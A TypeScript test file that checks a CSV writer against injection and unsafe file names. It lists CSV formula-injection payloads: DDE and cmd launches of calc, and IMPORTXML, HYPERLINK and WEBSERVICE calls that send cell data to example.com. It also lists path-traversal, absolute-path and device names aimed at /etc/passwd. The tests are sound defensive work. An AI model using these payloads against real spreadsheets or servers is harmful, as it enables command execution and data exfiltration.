import { existsSync, readdirSync } from 'node:fs'
import path from 'node:path'
import { expect, test } from 'vitest'
import { openFiles, query } from './open-files.ts'

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const hidden = [' ', '  ', '\u00a0', '\u3000', '"', "'", '"\'', '\ufeff', ' " ']
const bodies = [
  '1+1',
  'IMPORTXML(CONCAT("http://example.com/?v=", A1), "//a")',
  'HYPERLINK("http://example.com/?x="&A1, "click")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://example.com/")',
  'DDE("cmd";"/C calc";"1")',
]
const formulas = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  ...hidden.flatMap((before) => [`${before}=1+1`, `${before}@SUM(1)`]),
  '=',
  '-',
  '=1\r\n=2',
  '\t\t=1',
  '+41 44 000 00 00',
  '-2+3+cmd|calc!A0',
  '@@',
]

test('the corpus of formulas has at least 60 forms', () => {
  expect(new Set(formulas).size).toBeGreaterThanOrEqual(60)
})

test.each([',', ';', '\t'])(
  'every formula of the corpus is read back as text behind an apostrophe (delimiter %j)',
  async (delimiter) => {
    await using files = await openFiles({ csv: { delimiter } })
    const records = formulas.map((value, id) => ({ id, value }))
    const types = { id: 'integer', value: 'string' } as const
    await files.write('f.csv', 'replace', { types, records })
    const file = path.join(files.folder, 'f.csv')
    const delim = delimiter === '\t' ? '\\t' : delimiter
    const cells = await query(
      `SELECT value FROM read_csv('${file}', header = true, all_varchar = true, delim = '${delim}', quote = '"', escape = '"', allow_quoted_nulls = false, new_line = '\\r\\n') ORDER BY id::INTEGER`,
    )
    expect(cells).toEqual(formulas.map((value) => [`'${value}`]))
  },
)

test('numbers, dates and ordinary texts of the same look stay what they are', async () => {
  await using files = await openFiles()
  const types = { n: 'number', d: 'date', t: 'string' } as const
  const records = [
    { n: -1.5, d: '2026-11-26', t: 'a=b' },
    { n: 0, d: null, t: 'mail@example.com' },
  ]
  await files.write('f.csv', 'replace', { types, records })
  expect(files.text('f.csv')).toBe('n,d,t\r\n-1.5,2026-11-26,a=b\r\n0,,mail@example.com\r\n')
})

const ups = [
  '../',
  '..\\',
  '..//',
  './../',
  '.../',
  '..;/',
  '..%2f',
  '%2e%2e/',
  '..%5c',
  '..\u2215',
]
const names = [
  // Out of the folder, in many ways to write it.
  ...ups.flatMap((up) => [up, up.repeat(3), `a/${up}`].map((prefix) => `${prefix}etc/passwd.csv`)),
  ...ups.map((up) => `${up}x.csv`),
  // Absolute, on any system.
  '/x.csv',
  '//x.csv',
  '///etc/x.csv',
  '/etc/passwd.csv',
  '\\x.csv',
  '\\\\host\\share\\x.csv',
  '//host/share/x.csv',
  'C:\\x.csv',
  'C:/x.csv',
  'C:x.csv',
  'c:\\..\\x.csv',
  '\\\\?\\C:\\x.csv',
  '\\\\.\\pipe\\x.csv',
  'file:///etc/x.csv',
  'http://x.csv',
  // Control characters, wildcards and streams.
  ...['\0', '\x01', '\n', '\r', '\t', '\x1f', '\x7f', '<', '>', ':', '"', '|', '?', '*'].flatMap(
    (bad) => [`x${bad}.csv`, `${bad}x.csv`],
  ),
  'x.csv\0.png',
  'x.csv::$DATA',
  'x.csv:stream.csv',
  // Devices.
  ...['con', 'PRN', 'aux', 'Nul', 'com1', 'COM9', 'lpt1', 'LPT9', 'com¹', 'lpt³'].flatMap(
    (device) => [`${device}.csv`, `${device}.tar.csv`],
  ),
  // Names that some systems shorten or hide.
  'x.csv.',
  'x.csv ',
  'x.csv...',
  '.',
  '..',
  '',
  ' ',
  '.rev-x.csv',
  `${'x'.repeat(256)}.csv`,
  `${'x'.repeat(4096)}.csv`,
  `${'é'.repeat(200)}.csv`,
  '\ud800.csv',
  '\udfff.csv',
  '/dev/stdout.csv',
  '/proc/self/fd/1.csv',
]

test('the corpus of names has at least 100 forms', () => {
  expect(new Set(names).size).toBeGreaterThanOrEqual(100)
})

test('no name of the corpus leads anywhere: each is refused, or is a plain file in the folder', async () => {
  await using files = await openFiles()
  const around = path.dirname(files.folder)
  const written: string[] = []
  const refusals = new Set<string>()
  for (const name of names) {
    const session = await files
      .begin(name, 'replace', { id: 'integer' })
      .catch((error: unknown) => error as { kind: string })
    if ('kind' in session) {
      refusals.add(session.kind)
      continue
    }
    await session.write({ records: [{ id: 1 }] })
    await session.commit()
    written.push(name)
  }
  expect([...refusals]).toEqual(['config'])
  // Those that only look like a way out are file names: nothing decodes them.
  expect(written.filter((name) => /[\\/\0]/.test(name))).toEqual([])
  expect(readdirSync(around)).toEqual(['out'])
  expect(readdirSync(files.folder).toSorted()).toEqual(written.toSorted())
  expect(existsSync('/etc/passwd.csv')).toBe(false)
})
